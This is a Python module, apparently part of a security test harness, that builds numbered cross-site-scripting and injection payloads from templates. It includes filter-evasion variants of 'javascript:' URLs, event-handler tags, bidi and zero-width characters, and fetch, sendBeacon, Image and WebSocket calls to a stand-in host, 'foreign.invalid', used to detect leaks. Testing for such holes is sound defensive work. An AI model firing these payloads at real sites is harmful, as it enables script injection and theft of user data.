"""Texts that want to be more than text: each would run a script, fetch something or spoof, if it were let.

``payloads.txt`` holds their forms, by kind. What runs calls ``ran(N)`` or opens a dialog; what fetches asks the host
:data:`FOREIGN`. N is the payload's number, so that what came through can be named.
"""

from __future__ import annotations

import random
import re
from pathlib import Path

FOREIGN = "foreign.invalid"
"""A host that does not exist; a request for it is a leak."""

_FORMS = Path(__file__).with_name("payloads.txt")
_CHOICES = {
    "before": [
        "", "", "\">", "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
        "</select>", "\" ", "' ", "`", "}}", "*/", "\\\"", "</q></p></li>", "\n\n", "\x0c",
    ],
    "run": [
        "ran(«n»)", "alert(«n»)", "confirm(«n»)", "top.ran(«n»)", "window['ran'](«n»)", "ran`«n»`",
        "eval('ran(«n»)')", "setTimeout('ran(«n»)')", "Function('ran(«n»)')()",
        "import('data:text/javascript,ran(«n»)')",
        "location='javascript:ran(«n»)'", "fetch('//«host»/«n»')", "navigator.sendBeacon('//«host»/«n»')",
        "new Image().src='//«host»/«n»'", "new WebSocket('wss://«host»/«n»')",
    ],
    "loads": ["img", "video", "audio", "embed", "input type=image", "iframe", "track", "script"],
    "any": ["b", "div", "details", "svg", "math", "body", "a", "x-y", "table", "style", "dialog open", "marquee"],
    "event": [
        "onerror", "onload", "onfocus autofocus tabindex=1 onfocusin", "onmouseover", "open ontoggle",
        "onanimationstart", "onpointerenter", "popover onbeforetoggle",
        "oncontentvisibilityautostatechange", "onclick",
    ],
    "relation": [
        "stylesheet", "preload as=image", "prefetch", "preconnect", "dns-prefetch", "icon", "manifest",
        "modulepreload", "prerender", "import",
    ],
    "scheme": [
        "javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "javascript&colon;", "vbscript:",
        "&#106;avascript:", "javascript://%0a", "data:text/html,<script>", "blob:", "view-source:javascript:",
    ],
    "turn": ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069\u202e", "\u200f", "\u061c"],
    "hidden": ["\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060", "\u180e", "\u034f", "\U000e0041"],
    "own": [
        "thread", "question", "source", "files", "status", "getElementById", "createElement", "append",
        "querySelectorAll", "body", "cookie", "language", "children", "__proto__",
    ],
}  # fmt: skip
"""What stands for each name in a form; one of them is drawn each time."""


def make_payloads(count: int, seed: int) -> list[str]:
    """Return ``count`` different payloads, every form in turn; the same seed gives the same ones."""
    chance = random.Random(seed)
    lines = _FORMS.read_text("utf-8").splitlines()
    forms = [line for line in lines if line and not line.startswith("== ")]
    chance.shuffle(forms)
    return [_fill(forms[number % len(forms)], number, chance) for number in range(count)]


def _fill(form: str, number: int, chance: random.Random) -> str:
    def value(match: re.Match[str]) -> str:
        name, _, argument = match[1].partition(":")
        if name == "case":
            return "".join(chance.choice((each.upper(), each.lower())) for each in argument)
        if name.startswith("U+"):
            return chr(int(name[2:], 16))
        if name in _CHOICES:
            return _fill(chance.choice(_CHOICES[name]), number, chance)
        return {"n": str(number), "host": FOREIGN}[name]

    return re.sub("«(.*?)»", value, form.replace("⏎", "\n").replace("⇥", "\t"))
